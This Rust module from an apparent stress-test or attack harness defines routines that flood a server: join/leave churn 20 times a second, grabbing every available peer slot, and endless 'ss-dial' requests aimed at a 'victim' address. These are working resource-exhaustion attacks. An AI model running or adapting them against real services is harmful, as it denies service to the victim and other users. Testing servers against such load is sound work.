//! Links that join, and cause costs to the others.

use std::{io, time::Duration};

use tokio::time::{Instant, timeout_at};

use super::{Attacker, Ready};
use crate::{client::Client, source::Source};

/// The interval at which a link joins and leaves.
const JOIN_INTERVAL: Duration = Duration::from_millis(50);
/// The number of peers that a link may join.
const PEERS: usize = 16;
/// The interval at which all of them are joined anew.
const ROUND: Duration = Duration::from_secs(1);
/// The interval at which a link dials.
const DIAL_INTERVAL: Duration = Duration::from_millis(200);

/// Sends a ping, and reads until the given time.
async fn wait(link: &mut Client, until: Instant) -> io::Result<()> {
    link.text("2").await?;
    while let Ok(read) = timeout_at(until, link.next()).await {
        read?;
    }
    Ok(())
}

/// Joins a new address. Returns whether the server allowed it.
async fn join(attacker: &Attacker, link: &mut Client) -> io::Result<bool> {
    match link.join_as(&attacker.key, attacker.address()).await {
        Ok(_) => Ok(true),
        // The server refused it.
        Err(error) if error.kind() == io::ErrorKind::Other => Ok(false),
        Err(error) => Err(error),
    }
}

/// Joins and leaves 20 times a second.
pub async fn joins(attacker: &Attacker, source: Source, ready: &mut Ready) -> io::Result<()> {
    let mut link = attacker.link(source).await?;
    loop {
        let next = Instant::now() + JOIN_INTERVAL;
        if join(attacker, &mut link).await? {
            link.leave().await?;
        }
        ready.set(attacker);
        wait(&mut link, next).await?;
    }
}

/// Joins as many peers as the server allows. Keeps them, or joins all of them anew each second.
pub async fn peers(
    attacker: &Attacker,
    source: Source,
    keeps: bool,
    ready: &mut Ready,
) -> io::Result<()> {
    let mut link = attacker.link(source).await?;
    let mut joined = Vec::new();
    loop {
        let next = Instant::now() + ROUND;
        while joined.len() < PEERS && join(attacker, &mut link).await? {
            joined.push(link.address.clone());
        }
        ready.set(attacker);
        wait(&mut link, next).await?;
        if !keeps {
            for address in joined.drain(..) {
                link.address = address;
                link.leave().await?;
            }
        }
    }
}

/// Dials the victim, and never ends these dials.
pub async fn dials(attacker: &Attacker, source: Source, ready: &mut Ready) -> io::Result<()> {
    let mut link = attacker.link(source).await?;
    if !join(attacker, &mut link).await? {
        return Ok(());
    }
    loop {
        let next = Instant::now() + DIAL_INTERVAL;
        let (from, to) = (link.address.clone(), &attacker.target.victim);
        let id = format!("attack-{}", attacker.number());
        let dial = format!("[\"ss-dial\",\"{from}\",\"{to}\",\"{id}\"]");
        // Any answer will do: an open dial, a refusal, or the end of another dial to make room.
        link.request(&dial).await?;
        ready.set(attacker);
        wait(&mut link, next).await?;
    }
}
